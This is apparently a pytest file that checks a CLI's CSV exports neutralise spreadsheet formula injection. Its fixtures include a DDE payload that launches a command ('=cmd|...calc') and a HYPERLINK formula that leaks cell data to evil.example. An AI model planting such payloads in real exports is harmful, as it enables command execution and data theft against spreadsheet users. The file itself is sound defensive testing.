"""CSV exports never carry a formula a spreadsheet would run (issue 31, point 6, OWASP "CSV
Injection"): a cell from a hostile keyword or page title starting with = + - @ (or a tab or
carriage return) gets a leading quote; numbers such as a change of -3 stay numbers;
``--raw-csv`` gives the cells exactly as stored."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pykka
import pytest

from entrypoints.cli.formats import defused
from service.bootstrap import bootstrap
from tests.helpers import Cli, record_outcome

KEYWORD = "=cmd|'/C calc'!A0"
TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"Best grinders")'
OTHERS = ("+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", "\t=1+1")  # \r: see the unit test


@pytest.fixture
def hostile(cli: Cli, tmp_path: Path) -> Cli:
    assert cli("init").code == 0
    rt = bootstrap(tmp_path / "data")
    try:
        record_outcome(rt, 3, keyword=KEYWORD, title=TITLE)
        record_outcome(rt, 6, keyword=KEYWORD, title=TITLE)  # a change of -3... or +3
        for other in OTHERS:
            record_outcome(rt, 1, keyword=other, title=other)
        rt.settle()
    finally:
        rt.close()
        pykka.ActorRegistry.stop_all()
    return cli


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))
            or (c.startswith("-") and not c.lstrip("-").replace(".", "").isdigit())]


@pytest.mark.parametrize("args", [("rank", "history", "--csv"),
                                  ("rank", "report", "--format", "csv", "--since", "30d")])
def test_csv_cells_that_would_run_as_formulas_are_defused(hostile: Cli,
                                                          args: tuple[str, ...]) -> None:
    shown = hostile(*args)
    assert shown.code == 0, shown.err
    cells = _cells(shown.out)
    assert _formulas(cells) == [], "no cell starts a formula"
    assert f"'{KEYWORD}" in cells


def test_history_keeps_titles_defused_and_numbers_numbers(hostile: Cli) -> None:
    cells = _cells(hostile("rank", "history", "--csv").out)
    assert f"'{TITLE}" in cells
    assert not any(c.startswith("'") and c[1:].lstrip("+-").isdigit() for c in cells)


@pytest.mark.parametrize("text", ["=1", "+1+x", "-x", "@x", "\t=1", "\r=1", "=", "-"])
def test_every_formula_start_is_defused(text: str) -> None:
    assert defused(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+2", "4", "-0.5", "1e-3", "plain", "", "'=x"])
def test_numbers_and_text_stay_as_they_are(text: str) -> None:
    assert defused(text) == text


def test_raw_csv_gives_the_cells_exactly(hostile: Cli) -> None:
    cells = _cells(hostile("rank", "history", "--csv", "--raw-csv").out)
    assert KEYWORD in cells and TITLE in cells
